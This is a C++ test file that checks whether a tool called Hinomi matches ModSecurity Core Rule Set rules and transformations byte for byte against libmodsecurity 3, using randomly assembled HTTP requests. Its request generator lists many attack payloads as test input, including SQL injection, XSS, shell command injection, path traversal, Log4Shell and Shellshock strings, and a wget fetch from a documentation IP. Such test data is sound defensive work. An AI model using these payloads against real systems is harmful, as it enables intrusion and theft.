// The proof that Hinomi carries out the Core Rule Set as its makers mean it: libmodsecurity 3 and Hinomi look at the same requests
// and must find the same rules, and every transformation must give the same bytes. Requests are generated here from pieces of
// attacks and everyday words, in several encodings; where the development data is present, its requests are tried too.
//
// Among 19,000 requests of other seeds four differed, by properties of the reference: its word search misses a word that begins
// inside another's beginning; MATCHED_VARS of a rule that held are still there for the next rule; and MATCHED_VAR, the last of
// several, depends on the order of a hash table.
#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <random>
#include <set>

#include <fmt/format.h>
#include <gtest/gtest.h>

#include "findings/crs_matcher.h"
#include "findings/example_request.h"
#include "support/modsecurity_reference.h"

namespace hinomi::findings {
namespace {

constexpr const char* kCrsFolder = "/usr/share/modsecurity-crs";

using Request = tests::ReferenceRequest;

std::string percent(std::string_view bytes) {
  std::string out;
  for (const unsigned char c : bytes) out += fmt::format("%{:02X}", static_cast<unsigned>(c));
  return out;
}

std::string shown(std::string_view bytes) {
  std::string out;
  for (const unsigned char c : bytes)
    out += c > 32 && c < 127 ? std::string(1, static_cast<char>(c)) : fmt::format("\\x{:02x}", static_cast<unsigned>(c));
  return out;
}

TEST(CrsReference, TransformationsGiveTheSameBytes) {
  const std::vector<std::string> names{"lowercase",
                                       "uppercase",
                                       "urlDecode",
                                       "urlDecodeUni",
                                       "htmlEntityDecode",
                                       "jsDecode",
                                       "cssDecode",
                                       "cmdLine",
                                       "compressWhitespace",
                                       "removeWhitespace",
                                       "removeNulls",
                                       "replaceNulls",
                                       "replaceComments",
                                       "removeComments",
                                       "removeCommentsChar",
                                       "normalizePath",
                                       "normalizePathWin",
                                       "base64Decode",
                                       "utf8toUnicode",
                                       "hexEncode",
                                       "length",
                                       "trim",
                                       "trimLeft",
                                       "trimRight"};
  std::string configuration = "SecRuleEngine On\n";
  for (std::size_t i = 0; i < names.size(); ++i)
    configuration +=
        fmt::format("SecRule ARGS \"@unconditionalMatch\" \"id:{},phase:1,pass,log,t:none,t:{},logdata:'%{{MATCHED_VAR}}'\"\n",
                    i + 1, names[i]);
  tests::ModsecurityReference reference(configuration);
  ASSERT_EQ(reference.error(), "");
  const std::vector<std::string> pieces{"%41",
                                        "%u0041",
                                        "%uff1c",
                                        "%u4f1a",
                                        "%U00e9",
                                        "%zz",
                                        "%",
                                        "+",
                                        "&lt;",
                                        "&#60;",
                                        "&#x3c",
                                        "&nbsp",
                                        "&unknown;",
                                        "&#99999999999999999999;",
                                        "&",
                                        "&#",
                                        "&#x",
                                        "\\x41",
                                        "\\u0041",
                                        "\\uff1c",
                                        "\\101",
                                        "\\7",
                                        "\\n",
                                        "\\",
                                        "\\000041 ",
                                        "\\00ff1c",
                                        "\\41g",
                                        "\\\n",
                                        "'",
                                        "\"",
                                        "^",
                                        ",",
                                        ";",
                                        " ",
                                        "\t",
                                        "\n",
                                        "\r\n",
                                        "\v",
                                        "/*",
                                        "*/",
                                        "/",
                                        "//",
                                        "/./",
                                        "/../",
                                        "..",
                                        ".",
                                        "a/../b",
                                        "\\..\\",
                                        "C:\\x",
                                        "YWJj",
                                        "YWI=",
                                        "Y Q==",
                                        "==",
                                        "\xe4\xbc\x9a",
                                        "\xc2\xa0",
                                        "\xe7\xa4\xbe",
                                        "\xc0\xaf",
                                        "\xf0\x9f\x98\x80",
                                        "\xf8",
                                        "\x95\x5c",
                                        "\xa0",
                                        "union",
                                        "SELECT",
                                        "Word",
                                        "x",
                                        "0",
                                        "7",
                                        "f",
                                        std::string("\0", 1),
                                        std::string("\0a", 2),
                                        "--",
                                        "#",
                                        "<!--",
                                        "-->",
                                        "(",
                                        ")"};
  std::mt19937 random(7);
  for (int round = 0; round < 1500; ++round) {
    std::string text;
    for (std::size_t n = 1 + random() % 6; n > 0; --n) text += pieces[random() % pieces.size()];
    Request request;
    request.target = "/?q=" + percent(text);
    std::map<int, std::string> theirs;
    for (const auto& message : reference.matches(request)) theirs[message.rule] = message.seen;
    for (std::size_t i = 0; i < names.size(); ++i) {
      const auto transform = crs_transform(names[i]);
      ASSERT_TRUE(transform.has_value()) << names[i];
      std::string ours;
      apply(*transform, text, UnmappedCharacter::LowByte, ours);
      // The reference forgets what stands behind a NUL here; an attacker could hide behind it.
      const std::string_view compared = names[i] == "cssDecode" ? std::string_view(ours.c_str()) : std::string_view(ours);
      ASSERT_EQ(shown(compared), shown(theirs[static_cast<int>(i) + 1])) << names[i] << " of " << shown(text);
      EXPECT_TRUE(ours == text || may_change(*transform, ByteSet::of(text))) << names[i] << " of " << shown(text);
    }
  }
}

/// Requests made of pieces of attacks, everyday words and encodings.
class RequestMaker {
 public:
  explicit RequestMaker(unsigned seed) : random_(seed) {}

  Request next() {
    static constexpr const char* kPaths[] = {"/",
                                             "/index.php",
                                             "/wp-login.php",
                                             "/shop/detail",
                                             "/a/../../etc/passwd",
                                             "/.git/config",
                                             "/cgi-bin/x.sh",
                                             "/images/%E5%95%86%E5%93%81.jpg",
                                             "/x.php~",
                                             "/phpinfo",
                                             "/api/v1/users/12",
                                             "/nessus",
                                             "/a%0d%0aLocation:x"};
    static constexpr const char* kNames[] = {"q",      "id",        "page", "file",     "cmd", "name",
                                             "u[$ne]", "PHPSESSID", "x-y",  "<script>", "a'b", "redirect"};
    static constexpr const char* kAgents[] = {"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
                                              "sqlmap/1.7",
                                              "",
                                              "() { :;}; /bin/bash -c id",
                                              "<script>alert(1)</script>",
                                              "Nikto",
                                              "curl/8.0",
                                              "' or 1=1-- -",
                                              "${jndi:ldap://x/a}",
                                              "java.lang.Runtime"};
    static constexpr const char* kReferers[] = {"",
                                                "https://example.jp/",
                                                "http://evil.example/?x=<script>alert(1)</script>",
                                                "javascript:alert(1)",
                                                "https://example.jp/?q=1' union select 1,2",
                                                "x onload=1 src=javascript:x"};
    Request request;
    request.method = one_of(8) ? "POST" : one_of(20) ? "PUT" : "GET";
    request.version = one_of(20) ? "1.0" : "1.1";
    request.target = kPaths[random_() % std::size(kPaths)];
    std::size_t count = random_() % 4;
    for (std::size_t i = 0; i < count; ++i) {
      request.target += i == 0 ? "?" : "&";
      request.target += encoded(kNames[random_() % std::size(kNames)]);
      if (!one_of(15)) request.target += "=" + encoded(payload());
    }
    request.agent = kAgents[random_() % std::size(kAgents)];
    request.referer = kReferers[random_() % std::size(kReferers)];
    request.host = one_of(2) ? "example.jp" : one_of(4) ? "192.0.2.2" : "";
    return request;
  }

 private:
  bool one_of(unsigned n) { return random_() % n == 0; }

  std::string payload() {
    static constexpr const char* kPieces[] = {"1' or '1'='1",
                                              "1 UNION SELECT null,version() from dual-- -",
                                              "sleep(5)",
                                              "'; waitfor delay '0:0:5'--",
                                              "benchmark(1000,md5(1))",
                                              "information_schema.tables",
                                              "having 1=1",
                                              "0x41424344",
                                              "/*!50000select*/",
                                              "select pg_sleep(3)",
                                              "<script>alert(1)</script>",
                                              "<img src=x onerror=alert(1)>",
                                              "javascript:alert(document.cookie)",
                                              "<svg/onload=prompt`1`>",
                                              "\" onmouseover=\"x",
                                              "&lt;script&gt;",
                                              "<style>@import 'x'</style>",
                                              "<a href=data:text/html;base64,PHNjcmlwdD4=>",
                                              "+ADw-script+AD4-",
                                              "![]+[]",
                                              "<meta http-equiv=refresh content=0>",
                                              "; cat /etc/passwd",
                                              "| ls -la",
                                              "`id`",
                                              "$(whoami)",
                                              "&& ping -c 1 127.0.0.1",
                                              "cmd.exe /c dir",
                                              "powershell -enc AAAA",
                                              "Get-Process",
                                              "wget http://192.0.2.9/x",
                                              "../../../../etc/passwd",
                                              "..\\..\\windows\\win.ini",
                                              "/etc/shadow",
                                              "/proc/self/environ",
                                              "php://filter/convert.base64-encode/resource=x",
                                              "<?php system('id'); ?>",
                                              "phar://x",
                                              "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
                                              "$_GET[x](1)",
                                              "eval(base64_decode('x'))",
                                              "http://192.0.2.9/shell.txt?",
                                              "file:///etc/hosts",
                                              "java.lang.Runtime.getRuntime()",
                                              "processbuilder unmarshaller",
                                              "org.apache.struts2 xmldecoder runtime",
                                              "require('child_process')",
                                              "new Function('x')",
                                              "_$$ND_FUNC$$_",
                                              "ZXZhbCgp",
                                              "get /x http/1.1",
                                              "\r\nSet-Cookie: a=b",
                                              ")(uid=*))(|(uid=*",
                                              "%27%20or%201%3d1",
                                              "%u0027 or 1=1",
                                              "%252e%252e%252f",
                                              "\\x3cscript\\x3e",
                                              "\\u003cscript",
                                              "for %i in (1) do x",
                                              "if exist x",
                                              "document.cookie",
                                              "window['alert']",
                                              "x=1;drop table users",
                                              "merge using (",
                                              "\xe4\xbc\x9a\xe7\xa4\xbe",
                                              "\xe6\x98\x8e\xe7\xb4\xb0",
                                              "\xe3\x83\x86\xe3\x82\xb9\xe3\x83\x88 \xe5\x95\x86\xe5\x93\x81",
                                              "\x95\x5c\x8e\xa6",
                                              "\xbc\xbe",
                                              "tanaka@example.jp",
                                              "O'Brien",
                                              "100% cotton & more",
                                              "a=b;c=d",
                                              "select a size from the list",
                                              "hello world",
                                              "2026-11-23 10:00",
                                              "C++ <vector>",
                                              "x",
                                              "",
                                              "(03) 1234",
                                              "[1,2,3]",
                                              "{\"a\":1}",
                                              "if(1=1)",
                                              "cat",
                                              "who",
                                              "time flies"};
    std::string text;
    for (std::size_t n = 1 + random_() % 2; n > 0; --n) {
      std::string piece = kPieces[random_() % std::size(kPieces)];
      if (one_of(6))
        for (char& c : piece)
          if (one_of(2) && c >= 'a' && c <= 'z') c = static_cast<char>(c - 32);
      if (one_of(12) && !piece.empty()) piece.insert(random_() % piece.size(), one_of(2) ? "/**/" : "'\"");
      text += piece;
    }
    return text;
  }

  std::string encoded(std::string_view text) {
    const auto way = random_() % 6;
    std::string out;
    for (const char c : text) {
      const auto byte = static_cast<unsigned char>(c);
      const bool plain = (c >= '0' && c <= '9') || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z');
      if (way == 0 || (!plain && (way < 4 || byte <= ' ' || byte > '~' || c == '&' || c == '#' || c == '%' || c == '+')))
        out += c == ' ' && way == 1 ? "+"
               : way == 2           ? fmt::format("%{:02x}", static_cast<unsigned>(byte))
                                    : fmt::format("%{:02X}", static_cast<unsigned>(byte));
      else
        out += c;
    }
    if (way == 3 && one_of(3)) {
      std::string twice;
      for (const char c : out) twice += c == '%' ? "%25" : std::string(1, c);
      return twice;
    }
    return out;
  }

  std::mt19937 random_;
};

/// The request as an access log's reader gives it.
struct LoggedRequest {
  std::string protocol, target, referer, agent;
  Event event;
  static std::string escaped(std::string_view text) {
    std::string out;
    for (const char c : text)
      if (c == '\\' || c == '"')
        (out += '\\') += c;
      else
        out += c;
    return out;
  }
  explicit LoggedRequest(const Request& request)
      : protocol("HTTP/" + request.version),
        target(escaped(request.target)),
        referer(request.referer.empty() ? "-" : escaped(request.referer)),
        agent(request.agent.empty() ? "-" : escaped(request.agent)) {
    event.kind = EventKind::HttpRequest;
    event.method = request.method;
    event.protocol = protocol;
    event.target = target;
    event.referer = referer;
    event.agent = agent;
    event.host = request.host;
    event.client = *IpAddress::parse("192.0.2.1");
  }
};

std::vector<Request> development_requests() {
  const char* given = std::getenv("HINOMI_DATA");
  const std::filesystem::path folder =
      given != nullptr ? std::filesystem::path(given) : std::filesystem::path(HINOMI_SOURCE_DIR) / "../shared/data";
  std::vector<Request> requests;
  std::ifstream in(folder / "crs" / "dev_access.log", std::ios::binary);
  for (std::string line; std::getline(in, line);) {
    Event event;
    if (!read_example(line, event) || event.target.contains('\\') || event.agent.contains('\\') || event.referer.contains('\\'))
      continue;
    Request request;
    request.method = event.method;
    request.target = event.target;
    if (event.agent != "-") request.agent = event.agent;
    if (event.referer != "-") request.referer = event.referer;
    request.version = event.protocol.starts_with("HTTP/") ? std::string(event.protocol.substr(5)) : "1.1";
    requests.push_back(std::move(request));
  }
  return requests;
}

void compare_rules(int paranoia, const std::vector<Request>& requests) {
  const auto crs = Content::open(kCrsFolder);
  if (!crs.has_value()) GTEST_SKIP() << "modsecurity-crs is not installed";
  CrsOptions options;
  options.paranoia = paranoia;
  options.unmapped = UnmappedCharacter::LowByte;
  options.use_exclusions = false;
  const CrsRules rules = CrsRules::load(*crs, Content(), options);
  tests::ModsecurityReference reference(fmt::format(
      "SecRuleEngine On\nSecDefaultAction \"phase:1,log,auditlog,pass\"\nSecDefaultAction \"phase:2,log,auditlog,pass\"\n"
      "SecAction \"id:900990,phase:1,nolog,pass,t:none,setvar:tx.crs_setup_version=334,setvar:tx.paranoia_level={}\"\n"
      "Include {}/rules/REQUEST-*.conf\n",
      paranoia, kCrsFolder));
  ASSERT_EQ(reference.error(), "");
  std::set<std::uint32_t> applicable;
  for (const CrsRule& rule : rules.rules())
    if (rule.scores) applicable.insert(rule.id);
  applicable.erase(920280);  // a missing Host header: a log that does not carry it does not say so
  CrsMatcher matcher(rules);
  std::size_t compared = 0, different = 0;
  for (const Request& request : requests) {
    std::set<std::uint32_t> ours, theirs;
    for (const tests::ReferenceMatch& match : reference.matches(request))
      if (applicable.contains(static_cast<std::uint32_t>(match.rule))) theirs.insert(static_cast<std::uint32_t>(match.rule));
    const LoggedRequest logged(request);
    for (const CrsMatch& match : matcher.match(logged.event).matches)
      if (applicable.contains(rules.rules()[match.rule].id)) ours.insert(rules.rules()[match.rule].id);
    compared += theirs.size();
    if (ours == theirs) continue;
    ++different;
    std::vector<std::uint32_t> missing, extra;
    std::ranges::set_difference(theirs, ours, std::back_inserter(missing));
    std::ranges::set_difference(ours, theirs, std::back_inserter(extra));
    EXPECT_EQ(ours, theirs) << request.method << " " << shown(request.target) << " referer " << request.referer << " agent "
                            << request.agent << " host " << request.host
                            << "\nmissing: " << fmt::format("{}", fmt::join(missing, " "))
                            << " extra: " << fmt::format("{}", fmt::join(extra, " "));
    if (different > 20) break;
  }
  EXPECT_GT(compared, requests.size() / 3);
  EXPECT_EQ(different, 0u);
}

TEST(CrsReference, SameRulesMatchAtParanoiaOne) {
  RequestMaker maker(11);
  std::vector<Request> requests;
  for (int i = 0; i < 1500; ++i) requests.push_back(maker.next());
  compare_rules(1, requests);
}

TEST(CrsReference, SameRulesMatchAtParanoiaFour) {
  RequestMaker maker(12);
  std::vector<Request> requests;
  for (int i = 0; i < 700; ++i) requests.push_back(maker.next());
  compare_rules(4, requests);
}

TEST(CrsReference, SameRulesMatchOnTheRuleSetsOwnTests) {
  const std::vector<Request> requests = development_requests();
  if (requests.empty()) GTEST_SKIP() << "the development data (crs/dev_access.log below $HINOMI_DATA) is not there";
  compare_rules(1, requests);
}

}  // namespace
}  // namespace hinomi::findings
